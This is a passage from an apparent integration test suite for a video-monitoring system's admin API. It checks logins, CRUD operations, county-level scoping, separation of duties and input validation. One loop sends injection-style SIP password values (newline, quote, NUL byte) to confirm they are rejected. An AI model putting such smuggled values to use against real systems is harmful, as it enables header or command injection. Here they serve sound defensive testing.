import http from 'node:http';
import { mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseSfuConfig, type AuditPage, type Channel, type Device, type OrgUnit, type SupervisedPerson, type User } from '@argus/shared';
import { buildSeedPlan, openSqliteStore, SEED_USERS, seedStore, startSfu, type Logger, type SfuHandle } from '@argus/sfu';
import { callApi, login } from '../support/auth.js';

/**
 * The admin HTTP API against a real server (real SQLite file, real mediasoup worker, real
 * ingest of the channels) over the seeded demo province: logins of the seed users, CRUD round
 * trips, scoping of county administrators, separation of duties, validation at the edge,
 * the audit log and its CSV export, and ingest following channel changes.
 */

const SEED_PASSWORD = 'seed-password-123';
const RTSP_SECRET = 'Rtsp-Secret-7f3a9';
const NOWHERE = 'rtsp://127.0.0.1:9/none';
const plan = buildSeedPlan({ demoCameraIds: ['demo-1'] });
const { provinceId, county1Id, county2Id, city2County1Id } = plan.anchors;

/** Log lines of the server, kept to check that no secret and no internal error ever shows up. */
const logLines: Array<{ level: string; scope: string; message: string; fields: string }> = [];
function captureLogger(scope: string): Logger {
  const write = (level: string) => (message: string, fields?: Record<string, unknown>) => {
    logLines.push({ level, scope, message, fields: JSON.stringify(fields ?? {}, (_key, value: unknown) => (value instanceof Error ? value.message : value)) });
  };
  return { debug: write('debug'), info: write('info'), warn: write('warn'), error: write('error'), child: (sub) => captureLogger(`${scope}:${sub}`) };
}

/** RFC 4180 records (quoted fields, doubled quotes, CRLF or LF). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      record.push(field);
      records.push(record);
      record = [];
      field = '';
    } else field += ch;
  }
  if (field !== '' || record.length > 0) {
    record.push(field);
    records.push(record);
  }
  return records;
}

describe('admin API', () => {
  let sfu: SfuHandle;
  let dir: string;
  const tokens: Record<string, string> = {};
  const api = (method: string, url: string, token?: string, body?: unknown, headers?: Record<string, string>) =>
    callApi(sfu.url, method, url, { ...(token ? { token } : {}), ...(body !== undefined ? { body } : {}), ...(headers ? { headers } : {}) });
  const cameraIds = () => sfu.cameras.list().map((c) => c.id).sort();
  /** Ids of everything the test created, for the audit checks. */
  const made: { userId?: string; orgUnitId?: string; deviceId?: string; countyDeviceId?: string; channelId?: string; personId?: string } = {};

  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'argus-admin-api-'));
    const dbPath = path.join(dir, 'argus.db');
    // Seeded before the server starts, as `npm run seed` and the demo do.
    const store = openSqliteStore(dbPath);
    try {
      await seedStore(store, { cameras: [{ id: 'demo-1', url: NOWHERE }], password: SEED_PASSWORD });
    } finally {
      await store.close();
    }
    sfu = await startSfu(
      parseSfuConfig({
        http: { host: '127.0.0.1', port: 0 },
        store: { path: dbPath },
        mediasoup: { numWorkers: 1 },
        ingest: { rtspTimeoutMs: 1000 },
        cameras: [],
      }),
      { staticDir: null, log: captureLogger('test-sfu') },
    );
    expect(sfu.bootstrap.adminPassword).toBeNull(); // the seed's admin, not a bootstrap one
    for (const username of [SEED_USERS.admin, SEED_USERS.countyAdmin, SEED_USERS.auditor, SEED_USERS.supervisor1, SEED_USERS.provinceOperator]) {
      tokens[username] = (await login(sfu.url, username, SEED_PASSWORD)).token;
    }
  });

  afterAll(async () => {
    await sfu?.close();
    await rm(dir, { recursive: true, force: true });
  });

  const admin = () => tokens[SEED_USERS.admin]!;
  const countyAdmin = () => tokens[SEED_USERS.countyAdmin]!;
  const auditor = () => tokens[SEED_USERS.auditor]!;

  it('logs in the seeded province and county administrators', async () => {
    const province = await login(sfu.url, SEED_USERS.admin, SEED_PASSWORD);
    expect(province.user).toMatchObject({ username: 'admin', orgUnitId: provinceId, roles: ['admin'], disabled: false });
    expect(province.permissions).toEqual(['admin.manage']);
    const county = await login(sfu.url, SEED_USERS.countyAdmin, SEED_PASSWORD);
    expect(county.user).toMatchObject({ username: 'county-admin', orgUnitId: county1Id, roles: ['admin'] });
    expect(JSON.stringify(county)).not.toMatch(/passwordHash|argon2/);

    const me = await api('GET', '/api/auth/me', countyAdmin());
    expect(me.status).toBe(200);
    expect(me.body.user.username).toBe('county-admin');
    // The cookie works as well as the bearer token.
    const answer = await callApi(sfu.url, 'POST', '/api/auth/login', { body: { username: 'admin', password: SEED_PASSWORD } });
    const cookie = answer.headers.get('set-cookie')!;
    expect(cookie).toMatch(/^argus_session=[^;]+;/);
    expect(cookie).toMatch(/HttpOnly/i);
    expect(cookie).toMatch(/SameSite=Strict/i);
    expect((await callApi(sfu.url, 'GET', '/api/auth/me', { headers: { cookie: cookie.split(';')[0]! } })).body.user.username).toBe('admin');

    expect((await callApi(sfu.url, 'POST', '/api/auth/login', { body: { username: 'admin', password: 'not-the-password' } })).status).toBe(401);
    expect((await api('GET', '/api/devices')).status).toBe(401);
    expect((await api('GET', '/api/devices', 'not.a.token')).status).toBe(401);
  });

  it('creates, renames and deletes org units, refusing blocked deletes and wrong levels', async () => {
    const before = (await api('GET', '/api/org-units', admin())).body.orgUnits as OrgUnit[];
    expect(before).toHaveLength(plan.orgUnits.length);
    expect(before[0]).toMatchObject({ id: provinceId, parentId: null });

    const township = { id: `${county2Id}099`, parentId: county2Id, level: 'township', name: '测试镇司法所' };
    const created = await api('POST', '/api/org-units', admin(), township);
    expect(created.status).toBe(201);
    expect(created.body).toEqual(township);
    made.orgUnitId = township.id;
    expect((await api('GET', '/api/org-units', admin())).body.orgUnits).toContainEqual(township);
    expect((await api('POST', '/api/org-units', admin(), township)).status).toBe(409);

    const renamed = await api('PATCH', `/api/org-units/${township.id}`, admin(), { name: '新测试镇司法所' });
    expect(renamed.status).toBe(200);
    expect(renamed.body).toEqual({ ...township, name: '新测试镇司法所' });
    expect((await sfu.store.orgUnits.get(township.id))?.name).toBe('新测试镇司法所');

    const wrongLevel = await api('POST', '/api/org-units', admin(), { id: '990299', parentId: county2Id, level: 'city', name: 'x' });
    expect(wrongLevel.status).toBe(409);
    const blocked = await api('DELETE', `/api/org-units/${county1Id}`, admin());
    expect(blocked.status).toBe(409);
    expect(blocked.body.error.message).toMatch(/children/);
    expect((await api('DELETE', `/api/org-units/${provinceId}`, admin())).status).toBe(403); // its own unit
    expect((await api('PATCH', '/api/org-units/990999', admin(), { name: 'x' })).status).toBe(404);

    // A unit made for deletion.
    const spare = { id: `${county2Id}098`, parentId: county2Id, level: 'township', name: '待撤销司法所' };
    expect((await api('POST', '/api/org-units', admin(), spare)).status).toBe(201);
    expect((await api('DELETE', `/api/org-units/${spare.id}`, admin())).status).toBe(204);
    expect((await api('GET', '/api/org-units', admin())).body.orgUnits.map((u: OrgUnit) => u.id)).not.toContain(spare.id);
    expect(await sfu.store.orgUnits.get(spare.id)).toBeNull();
    expect((await api('DELETE', `/api/org-units/${spare.id}`, admin())).status).toBe(404);
  });

  it('creates, updates and deletes command centres', async () => {
    const centre = { id: 'centre-test', orgUnitId: county2Id, name: '测试指挥中心' };
    const created = await api('POST', '/api/centres', admin(), centre);
    expect(created.status).toBe(201);
    expect(created.body).toEqual(centre);
    const list = (await api('GET', '/api/centres', admin())).body.centres;
    expect(list).toHaveLength(plan.centres.length + 1);
    expect(list).toContainEqual(centre);
    const patched = await api('PATCH', '/api/centres/centre-test', admin(), { name: '测试指挥中心二', orgUnitId: made.orgUnitId });
    expect(patched.status).toBe(200);
    expect(patched.body).toEqual({ id: 'centre-test', orgUnitId: made.orgUnitId, name: '测试指挥中心二' });
    expect(await sfu.store.centres.get('centre-test')).toEqual(patched.body);
    expect((await api('POST', '/api/centres', admin(), centre)).status).toBe(409);
    expect((await api('DELETE', '/api/centres/centre-test', admin())).status).toBe(204);
    expect(await sfu.store.centres.get('centre-test')).toBeNull();
    expect((await api('PATCH', '/api/centres/centre-test', admin(), { name: 'x' })).status).toBe(404);
  });

  it('creates and updates devices', async () => {
    const input = { id: 'api-dev-1', orgUnitId: county2Id, kind: 'venue-camera', name: '接待室摄像机', manufacturer: 'Hikvision' };
    const created = await api('POST', '/api/devices', admin(), input);
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({ ...input, gbDeviceId: null, model: null });
    expect(typeof created.body.createdAt).toBe('number');
    made.deviceId = input.id;
    const patched = await api('PATCH', '/api/devices/api-dev-1', admin(), { name: '接待室摄像机（东）', model: 'DS-2CD' });
    expect(patched.status).toBe(200);
    expect(patched.body).toMatchObject({ id: 'api-dev-1', name: '接待室摄像机（东）', model: 'DS-2CD', manufacturer: 'Hikvision', kind: 'venue-camera' });
    const listed = (await api('GET', '/api/devices', admin())).body.devices as Device[];
    expect(listed.find((d) => d.id === 'api-dev-1')).toEqual(patched.body);
    expect(listed.map((d) => d.id)).toContain('device-demo-1');
    expect((await api('POST', '/api/devices', admin(), input)).status).toBe(409);
    // kind is fixed once created.
    expect((await api('PATCH', '/api/devices/api-dev-1', admin(), { kind: 'vehicle' })).status).toBe(400);
    // GB/T 28181 fields belong to GB/T 28181 devices; a SIP password is printable ASCII without quotes.
    const notGb = await api('PATCH', '/api/devices/api-dev-1', admin(), { sipPassword: 'secret-123' });
    expect(notGb.status).toBe(400);
    expect(notGb.body.error.message).toMatch(/sipPassword: only GB\/T 28181 devices/);
    expect((await api('POST', '/api/devices', admin(), { ...input, id: 'api-dev-2', gbStreamMode: 'udp' })).status).toBe(400);
    const gb = { id: 'api-gb-1', orgUnitId: county2Id, kind: 'gb28181', name: 'NVR', gbDeviceId: '99010200001180000099' };
    for (const sipPassword of ['line\nbreak', 'quo"te', 'nul\u0000', 'back\\slash', '密码']) {
      expect((await api('POST', '/api/devices', admin(), { ...gb, sipPassword })).status, JSON.stringify(sipPassword)).toBe(400);
    }
    expect((await api('POST', '/api/devices', admin(), { ...gb, sipPassword: 'Good-Pass_123!', gbStreamMode: 'tcp-active' })).status).toBe(201);
    expect((await api('DELETE', '/api/devices/api-gb-1', admin())).status).toBe(204);
  });

  it('creates, updates and deletes RTSP channels with a write-only password, and ingest follows', async () => {
    const input = { id: 'api-cam-1', deviceId: 'api-dev-1', name: '接待室', source: { type: 'rtsp', url: 'rtsp://127.0.0.1:9/api-cam-1', username: 'viewer', password: RTSP_SECRET } };
    const created = await api('POST', '/api/channels', admin(), input);
    expect(created.status).toBe(201);
    expect(created.body).toEqual({ id: 'api-cam-1', deviceId: 'api-dev-1', orgUnitId: county2Id, name: '接待室', source: { type: 'rtsp', url: 'rtsp://127.0.0.1:9/api-cam-1', username: 'viewer', hasPassword: true }, ptz: false, enabled: true });
    expect(JSON.stringify(created.body)).not.toContain(RTSP_SECRET);
    made.channelId = input.id;
    // Ingest picked it up by the time the answer came.
    expect(cameraIds()).toEqual(['api-cam-1', 'demo-1']);
    expect(sfu.cameras.get('api-cam-1')!.summary).toMatchObject({ name: '接待室', orgUnitId: county2Id });
    expect(['connecting', 'lost']).toContain(sfu.cameras.get('api-cam-1')!.summary.state);
    expect(await sfu.store.channels.rtspSecret('api-cam-1')).toEqual({ url: 'rtsp://127.0.0.1:9/api-cam-1', username: 'viewer', password: RTSP_SECRET });

    const listed = await api('GET', '/api/channels', admin());
    expect(listed.body.channels.find((c: Channel) => c.id === 'api-cam-1')).toEqual(created.body);
    expect(JSON.stringify(listed.body)).not.toContain(RTSP_SECRET);

    // Renaming relabels the running camera; a source without a password keeps the stored one.
    const renamed = await api('PATCH', '/api/channels/api-cam-1', admin(), { name: '接待室（新）', source: { type: 'rtsp', url: 'rtsp://127.0.0.1:9/api-cam-1b', username: 'viewer' } });
    expect(renamed.status).toBe(200);
    expect(renamed.body.source).toEqual({ type: 'rtsp', url: 'rtsp://127.0.0.1:9/api-cam-1b', username: 'viewer', hasPassword: true });
    expect(JSON.stringify(renamed.body)).not.toContain(RTSP_SECRET);
    expect((await sfu.store.channels.rtspSecret('api-cam-1'))?.password).toBe(RTSP_SECRET);
    expect(sfu.cameras.get('api-cam-1')!.summary.name).toBe('接待室（新）');

    // Disabled channels are not ingested; enabling brings them back.
    expect((await api('PATCH', '/api/channels/api-cam-1', admin(), { enabled: false })).body.enabled).toBe(false);
    expect(cameraIds()).toEqual(['demo-1']);
    expect((await api('PATCH', '/api/channels/api-cam-1', admin(), { enabled: true })).status).toBe(200);
    expect(cameraIds()).toEqual(['api-cam-1', 'demo-1']);

    // null clears the password.
    const cleared = await api('PATCH', '/api/channels/api-cam-1', admin(), { source: { type: 'rtsp', url: 'rtsp://127.0.0.1:9/api-cam-1b', username: 'viewer', password: null } });
    expect(cleared.body.source.hasPassword).toBe(false);
    expect((await sfu.store.channels.rtspSecret('api-cam-1'))?.password).toBeNull();
    expect((await api('PATCH', '/api/channels/api-cam-1', admin(), { source: { type: 'rtsp', url: 'rtsp://127.0.0.1:9/api-cam-1b', password: RTSP_SECRET } })).body.source.hasPassword).toBe(true);

    // Credentials inside the URL are refused (they would be readable), naming the field.
    const inUrl = await api('POST', '/api/channels', admin(), { ...input, id: 'api-cam-2', source: { type: 'rtsp', url: `rtsp://viewer:${RTSP_SECRET}@127.0.0.1:9/x` } });
    expect(inUrl.status).toBe(400);
    expect(inUrl.body.error.message).toMatch(/^source\.url: /);
    // A channel's org unit must lie under its device's.
    const outside = await api('POST', '/api/channels', admin(), { ...input, id: 'api-cam-2', orgUnitId: county1Id });
    expect(outside.status).toBe(400);
    expect(outside.body.error.message).toMatch(/orgUnitId/);

    // A second channel, deleted on its own; the first goes with its device later.
    expect((await api('POST', '/api/channels', admin(), { ...input, id: 'api-cam-3', name: '走廊', orgUnitId: made.orgUnitId })).status).toBe(201);
    expect(cameraIds()).toEqual(['api-cam-1', 'api-cam-3', 'demo-1']);
    expect(sfu.cameras.get('api-cam-3')!.summary.orgUnitId).toBe(made.orgUnitId);
    expect((await api('DELETE', '/api/channels/api-cam-3', admin())).status).toBe(204);
    expect(cameraIds()).toEqual(['api-cam-1', 'demo-1']);
    expect(await sfu.store.channels.get('api-cam-3')).toBeNull();
    expect((await api('DELETE', '/api/channels/api-cam-3', admin())).status).toBe(404);
    expect((await api('PATCH', '/api/channels/api-cam-3', admin(), { name: 'x' })).status).toBe(404);
  });

  it('deleting a device deletes its channels and stops their ingest', async () => {
    expect((await api('POST', '/api/devices', admin(), { id: 'api-dev-2', orgUnitId: county2Id, kind: 'body-worn', name: '执法记录仪' })).status).toBe(201);
    expect((await api('POST', '/api/channels', admin(), { id: 'api-cam-4', deviceId: 'api-dev-2', name: '记录仪', source: { type: 'rtsp', url: 'rtsp://127.0.0.1:9/bw' } })).status).toBe(201);
    expect(cameraIds()).toContain('api-cam-4');
    expect((await api('DELETE', '/api/devices/api-dev-2', admin())).status).toBe(204);
    expect(cameraIds()).toEqual(['api-cam-1', 'demo-1']);
    expect(await sfu.store.devices.get('api-dev-2')).toBeNull();
    expect(await sfu.store.channels.get('api-cam-4')).toBeNull();
    expect((await api('GET', '/api/devices', admin())).body.devices.map((d: Device) => d.id)).not.toContain('api-dev-2');
  });

  it('manages users: a created user logs in; a new password or disabling ends its sessions', async () => {
    const created = await api('POST', '/api/users', admin(), { username: 'api-user', displayName: '接口用户', orgUnitId: county2Id, roles: ['operator'], password: 'first-password-1' });
    expect(created.status).toBe(201);
    expect(created.body).toMatchObject({ username: 'api-user', displayName: '接口用户', orgUnitId: county2Id, roles: ['operator'], disabled: false, mustChangePassword: true, lastLoginAt: null });
    expect(Object.keys(created.body).sort()).toEqual(['createdAt', 'disabled', 'displayName', 'id', 'lastLoginAt', 'mustChangePassword', 'orgUnitId', 'roles', 'username']);
    const userId = created.body.id as string;
    made.userId = userId;
    expect((await api('POST', '/api/users', admin(), { username: 'API-USER', displayName: 'x', orgUnitId: county2Id, roles: ['operator'], password: 'first-password-1' })).status).toBe(409);

    // A password the administrator chose must be changed first: until then only me, password and logout work.
    const first = await login(sfu.url, 'api-user', 'first-password-1');
    expect(first.user.id).toBe(userId);
    expect(first.permissions).toEqual(['wall.view', 'signins.read', 'alerts.handle', 'analytics.configure']);
    expect(first.mustChangePassword).toBe(true);
    expect((await api('GET', '/api/auth/me', first.token)).body.mustChangePassword).toBe(true);
    expect((await api('GET', '/api/org-units', first.token)).body.error.code).toBe('password-change-required');
    expect((await api('POST', '/api/auth/password', first.token, { currentPassword: 'wrong-password-0', newPassword: 'own-password-11' })).status).toBe(400);
    expect((await api('POST', '/api/auth/password', first.token, { currentPassword: 'first-password-1', newPassword: 'first-password-1' })).status).toBe(400);
    expect((await api('POST', '/api/auth/password', first.token, { currentPassword: 'first-password-1', newPassword: 'own-password-11' })).status).toBe(204);
    expect((await api('GET', '/api/org-units', first.token)).status).toBe(200);
    expect((await api('GET', '/api/auth/me', first.token)).body.mustChangePassword).toBe(false);
    const listed = (await api('GET', '/api/users', admin())).body.users as User[];
    expect(listed.find((u) => u.id === userId)?.lastLoginAt).toEqual(expect.any(Number));
    expect(JSON.stringify(listed)).not.toMatch(/argon2|passwordHash|password/);

    // A new password ends the open sessions; the old password stops working.
    const patched = await api('PATCH', `/api/users/${userId}`, admin(), { password: 'second-password-2', displayName: '接口用户二' });
    expect(patched.status).toBe(200);
    expect(patched.body.displayName).toBe('接口用户二');
    expect((await api('GET', '/api/auth/me', first.token)).status).toBe(401);
    expect((await callApi(sfu.url, 'POST', '/api/auth/login', { body: { username: 'api-user', password: 'first-password-1' } })).status).toBe(401);
    const second = await login(sfu.url, 'api-user', 'second-password-2');
    expect(second.mustChangePassword).toBe(true);

    // Disabling ends them too, and refuses new logins.
    expect((await api('PATCH', `/api/users/${userId}`, admin(), { disabled: true })).body.disabled).toBe(true);
    expect((await api('GET', '/api/auth/me', second.token)).status).toBe(401);
    expect((await callApi(sfu.url, 'POST', '/api/auth/login', { body: { username: 'api-user', password: 'second-password-2' } })).status).toBe(401);
    expect((await api('PATCH', `/api/users/${userId}`, admin(), { disabled: false, roles: ['operator', 'presenter'] })).body).toMatchObject({ disabled: false, roles: ['operator', 'presenter'] });
    const third = await login(sfu.url, 'api-user', 'second-password-2');
    expect(third.permissions).toEqual(['wall.view', 'signins.read', 'alerts.handle', 'analytics.configure']);

    // An administrator cannot lock themselves out.
    const self = (await api('GET', '/api/auth/me', admin())).body.user.id as string;
    expect((await api('PATCH', `/api/users/${self}`, admin(), { disabled: true })).status).toBe(403);
    expect((await api('DELETE', `/api/users/${self}`, admin())).status).toBe(403);

    // A user made for deletion: its session ends with it.
    const doomed = await api('POST', '/api/users', admin(), { username: 'api-doomed', displayName: '待删除', orgUnitId: county2Id, roles: ['supervisor'], password: 'doomed-password-1' });
    const doomedToken = (await login(sfu.url, 'api-doomed', 'doomed-password-1')).token;
    expect((await api('DELETE', `/api/users/${doomed.body.id}`, admin())).status).toBe(204);
    expect((await api('GET', '/api/auth/me', doomedToken)).status).toBe(401);
    expect(await sfu.store.users.get(doomed.body.id)).toBeNull();
  });

  it('lets a supervisor manage persons of their own county only', async () => {
    const supervisor = tokens[SEED_USERS.supervisor1]!;
    const listed = await api('GET', '/api/persons', supervisor);
    expect(listed.status).toBe(200);
    const expected = plan.supervisedPersons.filter((p) => p.orgUnitId === county1Id).map((p) => p.id).sort();
    expect(expected.length).toBeGreaterThan(0);
    expect((listed.body.persons as SupervisedPerson[]).map((p) => p.id).sort()).toEqual(expected);

    const person = { id: 'api-person-1', name: '测试人员', caseNumber: '(2025)岚矫字第9001号', orgUnitId: county1Id, supervisionStart: '2025-02-01', supervisionEnd: '2026-01-31' };
    const created = await api('POST', '/api/persons', supervisor, person);
    expect(created.status).toBe(201);
    expect(created.body).toEqual({ ...person, publicConsent: false });
    made.personId = person.id;
    expect((await api('POST', '/api/persons', supervisor, { ...person, id: 'api-person-2', caseNumber: 'other', orgUnitId: county2Id })).status).toBe(403);
    expect((await api('POST', '/api/persons', supervisor, { ...person, id: 'api-person-3' })).status).toBe(409); // same case number
    const patched = await api('PATCH', '/api/persons/api-person-1', supervisor, { publicConsent: true, supervisionEnd: '2026-06-30' });
    expect(patched.body).toEqual({ ...person, publicConsent: true, supervisionEnd: '2026-06-30' });
    // Someone else's county: as if it did not exist.
    const elsewhere = plan.supervisedPersons.find((p) => p.orgUnitId === county2Id)!;
    expect((await api('PATCH', `/api/persons/${elsewhere.id}`, supervisor, { publicConsent: true })).status).toBe(404);
    expect((await api('DELETE', `/api/persons/${elsewhere.id}`, supervisor)).status).toBe(404);
    expect((await api('DELETE', '/api/persons/api-person-1', supervisor)).status).toBe(204);
    expect(await sfu.store.persons.get('api-person-1')).toBeNull();
  });

  it('answers 503 to face enrolment and an empty status while analytics is off', async () => {
    const supervisor = tokens[SEED_USERS.supervisor1]!;
    const mine = plan.supervisedPersons.find((p) => p.orgUnitId === county1Id)!;
    const photo = { photos: [{ name: 'x.jpg', data: Buffer.alloc(64, 1).toString('base64') }] };
    const answer = await api('POST', `/api/persons/${mine.id}/faces`, supervisor, photo);
    expect(answer.status).toBe(503);
    expect(answer.body.error.code).toBe('unavailable');
    // Someone else's person is not found before analytics is even asked.
    const elsewhere = plan.supervisedPersons.find((p) => p.orgUnitId === county2Id)!;
    expect((await api('POST', `/api/persons/${elsewhere.id}/faces`, supervisor, photo)).status).toBe(404);
    expect((await api('GET', `/api/persons/${mine.id}/faces`, supervisor)).body).toEqual({ templates: [] });
    // Camera rules can still be set (the worker follows once analytics is on); administrators may not.
    expect((await api('GET', '/api/analytics/status', tokens[SEED_USERS.provinceOperator]!)).body).toMatchObject({ enabled: false });
    expect((await api('GET', '/api/analytics/status', admin())).status).toBe(403);
  });

  it('limits a county administrator to its county; the province administrator sees everything', async () => {
    const inCounty1 = (id: string) => id.startsWith(county1Id);
    const units = (await api('GET', '/api/org-units', countyAdmin())).body.orgUnits as OrgUnit[];
    expect(units[0]!.id).toBe(county1Id);
    expect(units.length).toBe(plan.orgUnits.filter((u) => inCounty1(u.id)).length);
    expect(units.every((u) => inCounty1(u.id))).toBe(true);

    const devices = (await api('GET', '/api/devices', countyAdmin())).body.devices as Device[];
    expect(devices.map((d) => d.id)).toEqual(['device-demo-1']);
    const channels = (await api('GET', '/api/channels', countyAdmin())).body.channels as Channel[];
    expect(channels.map((c) => c.id)).toEqual(['demo-1']);
    const users = (await api('GET', '/api/users', countyAdmin())).body.users as User[];
    expect(users.map((u) => u.username).sort()).toEqual([SEED_USERS.countyAdmin, SEED_USERS.county1Operator, SEED_USERS.supervisor1].sort());
    expect((await api('GET', '/api/centres', countyAdmin())).body.centres).toEqual([{ id: `centre-${county1Id}`, orgUnitId: county1Id, name: expect.any(String) }]);

    // Writing into another county is forbidden ...
    expect((await api('POST', '/api/devices', countyAdmin(), { id: 'county-dev-x', orgUnitId: county2Id, kind: 'vehicle', name: 'x' })).status).toBe(403);
    expect((await api('POST', '/api/users', countyAdmin(), { username: 'county-x', displayName: 'x', orgUnitId: city2County1Id, roles: ['operator'], password: 'county-password-1' })).status).toBe(403);
    expect((await api('POST', '/api/org-units', countyAdmin(), { id: '990198', parentId: '990100', level: 'county', name: 'x' })).status).toBe(403);
    expect((await api('POST', '/api/channels', countyAdmin(), { id: 'county-cam-x', deviceId: 'api-dev-1', name: 'x', source: { type: 'webrtc' } })).status).toBe(404);
    // ... and another county's rows answer as if missing.
    expect((await api('PATCH', '/api/devices/api-dev-1', countyAdmin(), { name: 'hijacked' })).status).toBe(404);
    expect((await api('DELETE', '/api/devices/api-dev-1', countyAdmin())).status).toBe(404);
    expect((await api('PATCH', '/api/channels/api-cam-1', countyAdmin(), { enabled: false })).status).toBe(404);
    expect((await api('PATCH', `/api/users/${made.userId}`, countyAdmin(), { disabled: true })).status).toBe(404);
    expect((await api('PATCH', `/api/org-units/${county2Id}`, countyAdmin(), { name: 'x' })).status).toBe(404);
    expect((await api('PATCH', `/api/org-units/${provinceId}`, countyAdmin(), { name: 'x' })).status).toBe(404);
    expect((await sfu.store.devices.get('api-dev-1'))?.name).toBe('接待室摄像机（东）');
    expect((await sfu.store.users.get(made.userId!))?.disabled).toBe(false);
    // Its own devices cannot be moved out either.
    const own = await api('POST', '/api/devices', countyAdmin(), { id: 'county-dev-1', orgUnitId: `${county1Id}001`, kind: 'vehicle', name: '巡查车' });
    expect(own.status).toBe(201);
    made.countyDeviceId = 'county-dev-1';
    expect((await api('PATCH', '/api/devices/county-dev-1', countyAdmin(), { orgUnitId: county2Id })).status).toBe(403);
    expect((await api('PATCH', '/api/devices/county-dev-1', countyAdmin(), { name: '巡查车（一）' })).status).toBe(200);

    // The province administrator sees all of it.
    expect((await api('GET', '/api/org-units', admin())).body.orgUnits).toHaveLength(plan.orgUnits.length + 1);
    expect((await api('GET', '/api/devices', admin())).body.devices.map((d: Device) => d.id).sort()).toEqual(['api-dev-1', 'county-dev-1', 'device-demo-1']);
    expect((await api('GET', '/api/users', admin())).body.users).toHaveLength(plan.users.length + 1);
  });

  it('separates duties: admins configure, operators watch, auditors read the audit log', async () => {
    const operator = tokens[SEED_USERS.provinceOperator]!;
    const status = async (url: string, token: string) => (await api('GET', url, token)).status;
    expect(await status('/api/users', operator)).toBe(403);
    expect(await status('/api/devices', operator)).toBe(403);
    expect(await status('/api/audit', operator)).toBe(403);
    expect(await status('/api/org-units', operator)).toBe(200);
    expect(await status('/api/audit', admin())).toBe(403);
    expect(await status('/api/audit.csv', admin())).toBe(403);
    expect(await status('/api/persons', admin())).toBe(403);
    expect(await status('/api/audit', auditor())).toBe(200);
    expect(await status('/api/users', auditor())).toBe(403);
    expect(await status('/api/persons', auditor())).toBe(403);
    const denied = await api('POST', '/api/devices', operator, { id: 'op-dev', orgUnitId: provinceId, kind: 'vehicle', name: 'x' });
    expect(denied.status).toBe(403);
    expect(denied.body.error).toEqual({ code: 'forbidden', message: expect.stringMatching(/admin\.manage/) });
    const refusals = (await sfu.store.audit.query({ action: 'access.denied', limit: 100, orgUnitIds: null })).entries;
    expect(refusals.find((row) => row.targetId === 'POST /api/devices' && row.username === SEED_USERS.provinceOperator)).toMatchObject({ outcome: 'denied', detail: { needs: 'admin.manage' } });
    expect(await sfu.store.devices.get('op-dev')).toBeNull();
    // Administration and audit are never one account, not even the admin's own.
    const both = await api('POST', '/api/users', admin(), { username: 'admin-auditor', displayName: '双重', orgUnitId: provinceId, roles: ['admin', 'auditor'], password: 'long-enough-password' });
    expect(both.status).toBe(400);
    expect(both.body.error.message).toMatch(/^roles: admin and auditor are separate duties/);
    const self = (await api('GET', '/api/auth/me', admin())).body.user;
    expect((await api('PATCH', `/api/users/${self.id}`, admin(), { roles: ['admin', 'auditor'] })).status).toBe(400);
    // Nor can an administrator give itself video.
    expect((await api('PATCH', `/api/users/${self.id}`, admin(), { roles: ['admin', 'operator'] })).status).toBe(400);
    // An administrator may create an auditor, but not take over or remove one.
    const auditorId = (await sfu.store.users.findForLogin(SEED_USERS.auditor))!.user.id;
    expect((await api('PATCH', `/api/users/${auditorId}`, admin(), { password: 'taken-over-password' })).status).toBe(403);
    expect((await api('PATCH', `/api/users/${auditorId}`, admin(), { disabled: true })).status).toBe(403);
    expect((await api('DELETE', `/api/users/${auditorId}`, admin())).status).toBe(403);
    expect((await callApi(sfu.url, 'POST', '/api/auth/login', { body: { username: SEED_USERS.auditor, password: SEED_PASSWORD } })).status).toBe(200);
  });

  it('moves a device\'s channels with it when they would fall outside its new unit', async () => {
    expect((await api('POST', '/api/devices', admin(), { id: 'mover', orgUnitId: county1Id, kind: 'body-worn', name: '执法记录仪' })).status).toBe(201);
    expect((await api('POST', '/api/channels', admin(), { id: 'mover-ch', deviceId: 'mover', name: '记录仪通道', source: { type: 'webrtc' } })).status).toBe(201);
    const moved = await api('PATCH', '/api/devices/mover', admin(), { orgUnitId: city2County1Id });
    expect(moved).toMatchObject({ status: 200, body: { orgUnitId: city2County1Id } });
    expect((await api('GET', '/api/channels', admin())).body.channels.find((c: { id: string }) => c.id === 'mover-ch')).toMatchObject({ orgUnitId: city2County1Id });
    expect((await api('DELETE', '/api/devices/mover', admin())).status).toBe(204);
  });

  it('validates at the edge: bodies, content type, size, routes, methods and origin', async () => {
    const bad = await api('POST', '/api/devices', admin(), { id: 'bad id!', orgUnitId: '12', kind: 'toaster', name: '' });
    expect(bad.status).toBe(400);
    expect(bad.body.error.code).toBe('bad-request');
    for (const field of ['id', 'orgUnitId', 'kind', 'name']) expect(bad.body.error.message).toMatch(new RegExp(`(^|; )${field}: `));
    const extra = await api('POST', '/api/centres', admin(), { id: 'c-x', orgUnitId: provinceId, name: 'x', secretField: 1 });
    expect(extra.status).toBe(400);
    expect(extra.body.error.message).toMatch(/secretField/);
    const shortPassword = await api('POST', '/api/users', admin(), { username: 'shorty', displayName: 'x', orgUnitId: provinceId, roles: ['operator'], password: 'short' });
    expect(shortPassword.status).toBe(400);
    expect(shortPassword.body.error.message).toMatch(/^password: /);
    expect((await api('POST', '/api/users', admin(), { username: 'noroles', displayName: 'x', orgUnitId: provinceId, roles: [], password: 'long-enough-1' })).body.error.message).toMatch(/^roles: /);
    expect((await api('GET', '/api/audit?limit=0', auditor())).body.error.message).toMatch(/^limit: /);
    expect((await api('GET', '/api/audit?bogus=1', auditor())).status).toBe(400);
    expect(await sfu.store.users.findForLogin('shorty')).toBeNull();

    const asText = await callApi(sfu.url, 'POST', '/api/devices', { token: admin(), headers: { 'content-type': 'text/plain' } });
    expect(asText.status).toBe(400);
    const raw = async (body: string, contentType: string) =>
